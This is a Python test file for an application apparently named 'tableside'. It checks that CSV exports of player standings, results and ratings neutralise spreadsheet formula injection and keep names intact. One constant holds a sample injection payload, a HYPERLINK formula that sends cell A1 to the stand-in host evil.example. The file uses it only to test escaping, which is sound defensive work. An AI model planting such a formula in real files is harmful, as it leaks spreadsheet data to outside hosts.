"""CSV exports are safe to open in a spreadsheet (OWASP's advice on CSV formula injection): a hostile
player name is written as text, numbers stay numbers, and a CSV read back gets the names as they were."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tableside.app.csv_export import csv_text, spreadsheet_safe
from tableside.app.csv_lines import unescape
from tableside.app.event.export import export_ratings_csv, results_csv, standings_csv
from tableside.app.ratings_csv import parse_ratings_csv
from tests.standings.helpers import event, play

ROOT = Path(__file__).resolve().parents[2]
# At most 64 characters, as a name may be (app.names).
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Click for your prize")'
FOUR = [HOSTILE, "+Ben", "@Cai", "-Dee"]
HEAD = "12:abcdef"  # a log head fingerprint, as every export carries


def raw_cells(text: str, delimiter: str = ",") -> list[list[str]]:
    """The cells as a spreadsheet sees them (no unescaping)."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))


def test_a_hostile_name_is_written_as_text_in_every_export():
    session = event(FOUR, system="contribution")
    play(session, {1: (FOUR, [["-Dee"], ["@Cai"], ["+Ben"]])})
    for text in (standings_csv(session.state, head=HEAD), results_csv(session.state, head=HEAD),
                 export_ratings_csv(session.state, head=HEAD)):
        cells = [cell for row in raw_cells(text) for cell in row]
        assert "'" + HOSTILE in cells and "'+Ben" in cells and "'@Cai" in cells and "'-Dee" in cells
        assert HOSTILE not in cells
        dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                     or (c.startswith("-") and not c.lstrip("-").replace("/", "").replace(".", "").isdigit())]
        assert dangerous == [], dangerous


def test_negative_numbers_stay_numbers():
    session = event(["Ana", "Ben", "Cai", "Dee"], system="contribution")
    play(session, {1: (["Ana", "Ben", "Cai", "Dee"], [["Dee"], ["Cai"], ["Ben"]])})
    assert spreadsheet_safe("-3") == "-3" and spreadsheet_safe("-1/2") == "-1/2" and spreadsheet_safe(-3) == -3
    assert spreadsheet_safe("+2.5") == "+2.5"
    text = csv_text(["a", "b", "c"], [{"a": "-3", "b": -7, "c": "-1/2"}], head=HEAD)
    assert text == f"\ufeffa,b,c,log_head\n-3,-7,-1/2,{HEAD}\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_escaped_with_a_quote(start):
    text = csv_text(["name"], [{"name": f"{start}1+1"}], head=HEAD)
    assert raw_cells(text)[1] == [f"'{start}1+1", HEAD]


def test_a_name_that_reads_like_an_escaped_formula_comes_back_whole():
    text = csv_text(["name"], [{"name": "'=Ana"}], head=HEAD)
    assert raw_cells(text)[1] == ["''=Ana", HEAD]
    assert unescape("''=Ana") == "'=Ana"
    assert unescape(raw_cells(csv_text(["name"], [{"name": "''@x"}], head=HEAD))[1][0]) == "''@x"


def test_a_semicolon_in_a_name_is_quoted_so_semicolon_spreadsheets_keep_one_cell():
    text = csv_text(["name", "points"], [{"name": "Ana;=1+1", "points": "12"}], head=HEAD)
    assert text.splitlines()[1] == f'"Ana;=1+1",12,{HEAD}'
    assert raw_cells(text, delimiter=";")[1] == [f"Ana;=1+1,12,{HEAD}"]  # split at ; outside quotes only: none


def test_exported_ratings_import_with_the_hostile_names_as_they_were():
    session = event(FOUR, system="contribution")
    play(session, {1: (FOUR, [["-Dee"], ["@Cai"], ["+Ben"]])})
    carried = parse_ratings_csv(export_ratings_csv(session.state, head=HEAD))
    assert set(carried) == set(FOUR)


@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12), min_size=1, max_size=5))
def test_any_text_comes_back_as_it_was_and_never_starts_a_formula(cells):
    columns = [f"c{i}" for i in range(len(cells))]
    text = csv_text(columns, [dict(zip(columns, cells, strict=True))], head=HEAD)
    read = raw_cells(text)[1]
    assert read[-1] == HEAD
    read = read[:-1]
    assert len(read) == len(cells)
    for raw, original in zip(read, cells, strict=True):
        if raw != original:
            assert raw == "'" + original and original.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r"))
        # Only a plain number may start with one of those (+0, -1/2): it cannot run anything.
        assert not raw.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"[+-]\d+(\.\d+)?(/\d+)?", raw)
        assert unescape(raw) == original


@pytest.mark.e2e  # starts a process
def test_the_command_line_export_escapes_too(tmp_path):
    from tableside.app.eventlog.sqlite_store import open_event_file
    from tests.event.helpers import session_on

    path = tmp_path / "cup.tableside"
    session = session_on(open_event_file(str(path), create=True))
    session.do("event.create", {"name": "Cup", "system": "table-points", "timers": "round-clock-only"})
    for name in FOUR:
        session.do("player.register", {"name": name})
    session.close()
    done = subprocess.run([sys.executable, "-m", "tableside.ui.launcher", "export", str(path), "--format", "csv",
                           "--standings"], cwd=ROOT, capture_output=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    cells = [cell for row in raw_cells(done.stdout.decode("utf-8")) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert json.dumps(HOSTILE)  # (the name itself survived registration unchanged)
